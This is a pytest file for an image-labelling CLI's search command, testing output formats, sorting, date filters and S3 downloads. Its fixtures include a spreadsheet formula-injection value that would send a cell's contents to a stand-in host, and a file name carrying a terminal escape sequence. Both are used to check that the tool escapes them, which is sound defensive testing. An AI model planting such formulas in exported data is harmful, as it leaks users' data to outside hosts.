"""`image-labels find --output`, `--sort`, `--since` and `--download`."""

from __future__ import annotations

import csv
import io
import json
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from image_labels.model import Label
from image_labels_cli.aws import Aws
from image_labels_cli.deployment import Deployment
from image_labels_cli.finding import results
from support.command import run, run_on_terminal
from support.fakes import BUCKET
from support.seed import Photos, labels, write_photos

if TYPE_CHECKING:
    from mypy_boto3_dynamodb import DynamoDBClient
    from mypy_boto3_s3 import S3Client

pytestmark = pytest.mark.usefixtures("deployment")

FORMULA = '=HYPERLINK("http://x/"&A1)'
STRANGE = 'images/tab\there, line\nthere, "quote" \x1b[31m \\ ü.jpg'
PHOTOS: Photos = {
    FORMULA: (Label("Dog", 98.765, parents=("Pet",)),),
    STRANGE: labels(dog=97.5),
    "images/c.jpg": labels(dog=80),
    "images/d.jpg": labels(dog=70),
}
DATES = {
    FORMULA: "2026-11-26T10:00:00.000+00:00",
    STRANGE: "2026-11-28T10:00:00.000+00:00",
    "images/c.jpg": "2026-11-27T10:00:00.123+00:00",
}
COLUMNS = {"key", "bucket", "s3_uri", "confidence", "uploaded", "matched", "terms"}


@pytest.fixture(autouse=True)
def _photos(dynamodb: DynamoDBClient) -> None:
    write_photos(dynamodb, PHOTOS, uploaded=DATES)


def as_keys(stdout: str) -> list[str]:
    return [json.loads(line)["key"] for line in stdout.splitlines()]


class TestOutput:
    def test_json_lines(self) -> None:
        lines = [json.loads(line) for line in run("find", "dog", "-o", "jsonl").stdout.splitlines()]
        assert [line["key"] for line in lines] == list(PHOTOS)
        assert lines[0] == {
            "key": FORMULA,
            "bucket": BUCKET,
            "s3_uri": f"s3://{BUCKET}/{FORMULA}",
            "confidence": 98.765,
            "uploaded": DATES[FORMULA],
            "matched": {"dog": 98.765},
            "terms": {"dog": 98.765, "pet": 98.765},
        }
        assert lines[3]["uploaded"] is None

    def test_json_lines_are_written_page_by_page(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(results, "MAX_PAGE", 1)
        aws = Aws(Deployment(region="eu-central-1"))
        written: list[int] = []

        def look(params: dict[str, Any], **_: object) -> None:
            if {"S": "dog"} in params.get("ExpressionAttributeValues", {}).values():
                stdout: Any = sys.stdout.buffer
                written.append(stdout.getvalue().count(b"\n"))

        aws.session.events.register("provide-client-params.dynamodb.Query", look)
        result = run("find", "dog", "--all", "--output", "jsonl", make_aws=lambda _: aws)
        assert as_keys(result.stdout) == list(PHOTOS)
        assert written[0] == 0
        assert written[-1] == 3

    @pytest.mark.parametrize("arguments", [("--json",), ("--output", "json")])
    def test_json(self, arguments: tuple[str, ...]) -> None:
        found = json.loads(run("find", "dog", *arguments).stdout)
        assert [photo["key"] for photo in found["photos"]] == list(PHOTOS)
        assert all(photo.keys() == COLUMNS for photo in found["photos"])
        assert (found["undated"], found["downloads"]) == (0, None)

    def test_csv_gives_back_every_key_except_formulas(self) -> None:
        rows = list(csv.DictReader(io.StringIO(run("find", "dog", "-o", "csv").stdout)))
        assert all(row.keys() == COLUMNS for row in rows)
        assert [row["key"] for row in rows] == [f"'{FORMULA}", STRANGE, "images/c.jpg", "images/d.jpg"]
        assert [row["s3_uri"] for row in rows] == [f"s3://{BUCKET}/{key}" for key in PHOTOS]
        assert json.loads(rows[0]["terms"]) == {"dog": 98.765, "pet": 98.765}
        assert [row["uploaded"] for row in rows] == [*DATES.values(), ""]

    def test_tsv_has_one_line_for_each_photo(self) -> None:
        header, *rows = [line.split("\t") for line in run("find", "dog", "-o", "tsv").stdout.splitlines()]
        assert set(header) == COLUMNS
        assert len(rows) == len(PHOTOS)
        assert [len(row) for row in rows] == [len(COLUMNS)] * 4
        assert rows[1][0] == 'images/tab\\there, line\\nthere, "quote" \\x1b[31m \\\\ ü.jpg'

    @pytest.mark.parametrize("wanted", ["csv", "tsv"])
    def test_terminal_gets_no_control_characters(self, wanted: str) -> None:
        assert "\x1b" not in run_on_terminal("find", "dog", "-o", wanted).stdout

    def test_parquet(self) -> None:
        parquet = pytest.importorskip("pyarrow.parquet")
        file = parquet.ParquetFile(io.BytesIO(run("find", "dog", "-o", "parquet").stdout_bytes))
        rows = file.read().to_pylist()
        assert set(rows[0]) == COLUMNS
        assert [row["key"] for row in rows] == list(PHOTOS)
        assert rows[0]["uploaded"] == datetime(2026, 11, 26, 10, tzinfo=UTC)
        assert dict(rows[0]["terms"]) == {"dog": 98.765, "pet": 98.765}
        assert rows[3]["uploaded"] is None

    def test_parquet_of_nothing_is_a_file(self) -> None:
        parquet = pytest.importorskip("pyarrow.parquet")
        result = run("find", "xyzzy", "-o", "parquet")
        assert result.exit_code == 1
        assert parquet.ParquetFile(io.BytesIO(result.stdout_bytes)).read().num_rows == 0

    def test_parquet_is_not_written_to_a_terminal(self) -> None:
        result = run_on_terminal("find", "dog", "-o", "parquet")
        assert (result.exit_code, result.stdout) == (2, "")
        assert "redirect it to a file" in result.stderr

    def test_parquet_without_its_package(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.delitem(sys.modules, "image_labels_cli.finding.parquet", raising=False)
        monkeypatch.setitem(sys.modules, "pyarrow", None)
        result = run("find", "dog", "-o", "parquet")
        assert (result.exit_code, result.stdout) == (2, "")
        assert "pip install pyarrow" in result.stderr

    def test_table_in_a_pipe(self) -> None:
        assert "┃ Photo" in run("find", "dog", "--prefix", "images/c", "-o", "table").stdout

    @pytest.mark.parametrize(
        ("arguments", "message"),
        [
            (["--json", "-o", "csv"], "--json and --output csv exclude each other"),
            (["-o", "xml"], "'xml' is not one of"),
            (["--sort", "key", "--token", "t"], "--token continues in order of confidence"),
            (["--since", "soon"], "--since soon is no time"),
        ],
    )
    def test_wrong_usage(self, arguments: list[str], message: str) -> None:
        result = run("find", "dog", *arguments)
        assert (result.exit_code, result.stdout) == (2, "")
        assert message in result.stderr

    def test_bucket_is_required_for_programs(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        monkeypatch.setenv("IMAGE_LABELS_BUCKET", "")
        monkeypatch.chdir(tmp_path)
        assert run("find", "dog").exit_code == 0
        result = run("find", "dog", "-o", "csv")
        assert (result.exit_code, result.stdout) == (2, "")
        assert "bucket" in result.stderr


class TestSort:
    def test_by_key(self) -> None:
        result = run("find", "dog", "--sort", "key", "--limit", "3", "-o", "jsonl")
        assert as_keys(result.stdout) == sorted(PHOTOS)[:3]
        assert result.stderr == "4 photos match; --all prints all of them, and --limit more of them\n"

    def test_by_date(self) -> None:
        result = run("find", "dog", "--sort", "date", "--all", "-o", "jsonl")
        assert as_keys(result.stdout) == [STRANGE, "images/c.jpg", FORMULA, "images/d.jpg"]
        assert result.stderr == ""

    def test_of_a_scan(self) -> None:
        result = run("find", "NOT pet", "--scan", "--sort", "date", "-o", "jsonl")
        assert as_keys(result.stdout) == [STRANGE, "images/c.jpg", "images/d.jpg"]


class TestDates:
    def test_photos_without_a_date_are_counted(self) -> None:
        result = run("find", "dog", "--since", "2026-11-27", "-o", "jsonl")
        assert as_keys(result.stdout) == [STRANGE, "images/c.jpg"]
        assert "1 more photo matches, but its date is unknown" in result.stderr
        found = json.loads(run("find", "dog", "--until", "2026-11-26", "--json").stdout)
        assert [photo["key"] for photo in found["photos"]] == [FORMULA]
        assert found["undated"] == 1

    def test_next_page_has_the_same_dates(self) -> None:
        result = run("find", "dog", "--since", "2026-11-26", "--until", "2026-11-27T12:00", "--limit", "1")
        assert "--since 2026-11-26T00:00:00.000+00:00 --until 2026-11-27T12:00:00.000+00:00" in result.stderr
        token = result.stderr.split("--token ")[1].split()[0]
        dates = ["--since", "2026-11-26T00:00:00.000+00:00", "--until", "2026-11-27T12:00:00.000+00:00"]
        second = run("find", "dog", *dates, "--limit", "1", "--token", token, "-o", "jsonl")
        assert as_keys(second.stdout) == ["images/c.jpg"]


class TestDownload:
    def test_photos_are_in_the_directory(self, s3: S3Client, tmp_path: Path) -> None:
        for key in PHOTOS:
            s3.put_object(Bucket=BUCKET, Key=key, Body=key.encode())
        result = run("find", "dog", "--limit", "3", "--download", str(tmp_path / "new"), "-o", "jsonl")
        assert (result.exit_code, len(result.stdout.splitlines())) == (0, 3)
        assert f"downloaded 3 photos (0.0 MB) to {tmp_path}/new" in result.stderr
        assert (tmp_path / "new" / "images" / "c.jpg").read_bytes() == b"images/c.jpg"
        again = json.loads(run("find", "dog", "--all", "--download", str(tmp_path / "new"), "--json").stdout)
        assert again["downloads"] == {
            "directory": str(tmp_path / "new"),
            "downloaded": 1,
            "bytes": len("images/d.jpg"),
            "present": 3,
            "gone": 0,
            "failed": [],
        }

    def test_photo_that_s3_refuses_is_named(self, s3: S3Client, tmp_path: Path) -> None:
        s3.put_object(Bucket=BUCKET, Key="images/c.jpg", Body=b"c", StorageClass="GLACIER")
        s3.put_object(Bucket=BUCKET, Key="images/d.jpg", Body=b"d")
        result = run("find", "dog", "--prefix", "images/", "--download", str(tmp_path))
        assert result.exit_code == 3
        assert "downloaded 1 photo (0.0 MB)" in result.stderr
        assert "1 is no longer in the bucket" in result.stderr
        assert "1 photo was not downloaded\n  images/c.jpg\n" in result.stderr
        assert "InvalidObjectState" in result.stderr

    def test_terminal_shows_table_and_summary(self, s3: S3Client, tmp_path: Path) -> None:
        for key in PHOTOS:
            s3.put_object(Bucket=BUCKET, Key=key, Body=key.encode())
        result = run_on_terminal("find", "dog", "--download", str(tmp_path))
        assert "images/c.jpg" in result.stdout
        assert "downloaded 4 photos" in result.stderr
